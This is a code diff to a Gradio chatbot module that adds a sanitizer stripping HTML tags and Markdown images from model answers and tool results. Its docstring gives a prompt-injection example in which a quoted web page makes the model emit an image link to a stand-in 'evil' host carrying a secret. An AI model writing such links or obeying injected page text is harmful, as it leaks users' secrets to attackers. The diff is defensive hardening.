@@ -4,8 +4,15 @@ Messages are plain JSON-able dicts in Gradio's ``messages`` format, so the same 
 ``Chatbot`` and is cached in the browser. Each tool call (and each A2A delegation, a tool named
 ``a2a_*``) is a collapsible step: a message whose ``metadata.title`` names it, ``status`` ``pending``
 until its result arrives, then ``done`` with ``ok``/``error`` in the title and a short result preview.
+
+Everything shown passes through :func:`safe_markdown` (:func:`safe_messages`): answers and tool results
+can quote web pages, and a page that makes the model write ``![x](https://evil/?q=<secret>)`` or an
+``<img>`` tag would otherwise have the browser send the secret the moment the answer renders. Gradio's
+own sanitizer keeps ``<img>``, so nothing in an answer may load anything.
 """
 
+import functools
+import inspect
 import json
 import re
 import time
@@ -21,6 +28,99 @@ A2A_PREFIX = "a2a_"
 PREVIEW_CHARS = 280
 ARGS_CHARS = 2000
 NO_RESULT = "no result"
+
+
+# --- answers that cannot load anything ------------------------------------------------------------------
+# The rule is context-free, so no parse of the Markdown can be wrong about safety: every "<" that could
+# open an HTML tag, comment or declaration and every "![" (a Markdown image) is neutralized, wherever it
+# is. Where this module recognizes prose it does so visibly ("&lt;", "[image: alt](url)" links); in code
+# (fences, inline code spans), where Markdown shows text literally anyway, it inserts an invisible
+# WORD JOINER, so code reads the same. Mermaid fences, which Gradio draws as diagrams (those can load
+# images), become ordinary code blocks.
+
+WORD_JOINER = "\u2060"
+_TAG_START = re.compile(r"<(?=[A-Za-z/!?])")  # what the HTML tokenizer reads as markup (rest is text)
+_HARMLESS_TAGS = re.compile(
+    r"</?(?:b|i|em|strong|sub|sup|s|u|kbd)>|<br\s*/?>|<(?:https?|mailto):[^\s<>\"'`]*>", re.IGNORECASE
+)
+_IMAGE = re.compile(r"!\[([^\]\n]*)\]")
+_FENCE_OPEN = re.compile(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})")  # as marked (GFM) opens a fenced block
+_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`)(.+?)(?<!`)\1(?!`)", re.DOTALL)
+_MERMAID = "```mermaid"  # Gradio's diagram extension matches exactly this
+
+
+def _code_inert(text: str) -> str:
+    return _TAG_START.sub("<" + WORD_JOINER, text).replace("![", "!" + WORD_JOINER + "[")
+
+
+def _image_link(match: re.Match[str]) -> str:
+    alt = match.group(1).strip()
+    return f"[image: {alt}]" if alt else "[image]"
+
+
+def _prose_inert(text: str) -> str:
+    text = _IMAGE.sub(_image_link, text).replace("![", "!" + WORD_JOINER + "[")
+    parts, position = [], 0
+    for harmless in _HARMLESS_TAGS.finditer(text):
+        parts += [_TAG_START.sub("&lt;", text[position : harmless.start()]), harmless.group()]
+        position = harmless.end()
+    parts.append(_TAG_START.sub("&lt;", text[position:]))
+    return "".join(parts)
+
+
+def _inline_inert(prose: str) -> str:
+    parts, position = [], 0
+    for span in _CODE_SPAN.finditer(prose):
+        parts += [_prose_inert(prose[position : span.start()]), _code_inert(span.group())]
+        position = span.end()
+    parts.append(_prose_inert(prose[position:]))
+    return "".join(parts)
+
+
+def _as_gradio_shows(text: str) -> str:
+    """Gradio passes message text through ``inspect.cleandoc``; applied until nothing changes, the
+    text this module looks at is exactly the text the browser's Markdown parser gets."""
+    while (cleaned := inspect.cleandoc(text)) != text:
+        text = cleaned
+    return text
+
+
+@functools.lru_cache(maxsize=1024)
+def safe_markdown(text: str) -> str:
+    """``text`` rendered the same but unable to load images, media, frames or styles (idempotent)."""
+    lines = _as_gradio_shows(text).replace(_MERMAID, "``` mermaid").split("\n")
+    out: list[str] = []
+    prose: list[str] = []
+    fence: re.Pattern[str] | None = None  # the closing line of the open fenced block
+    for line in lines:
+        if fence is not None:
+            out.append(_code_inert(line))
+            if fence.fullmatch(line):
+                fence = None
+            continue
+        opening = _FENCE_OPEN.match(line)
+        if opening is None:
+            prose.append(line)
+            continue
+        if prose:
+            out.append(_inline_inert("\n".join(prose)))
+            prose = []
+        out.append(_code_inert(line))
+        fence = re.compile(r" {0,3}" + re.escape(opening.group(1)) + r"[~`]* *")
+    if prose:
+        out.append(_inline_inert("\n".join(prose)))
+    return "\n".join(out)
+
+
+def safe_messages(messages: list[ChatMessage]) -> list[ChatMessage]:
+    """Copies of ``messages`` with every text passed through :func:`safe_markdown`: what the Chatbot
+    shows and the browser stores."""
+    return [
+        {**message, "content": safe_markdown(message["content"])}
+        if isinstance(message.get("content"), str)
+        else message
+        for message in messages
+    ]
 
 
 def step_label(tool_name: str) -> str:
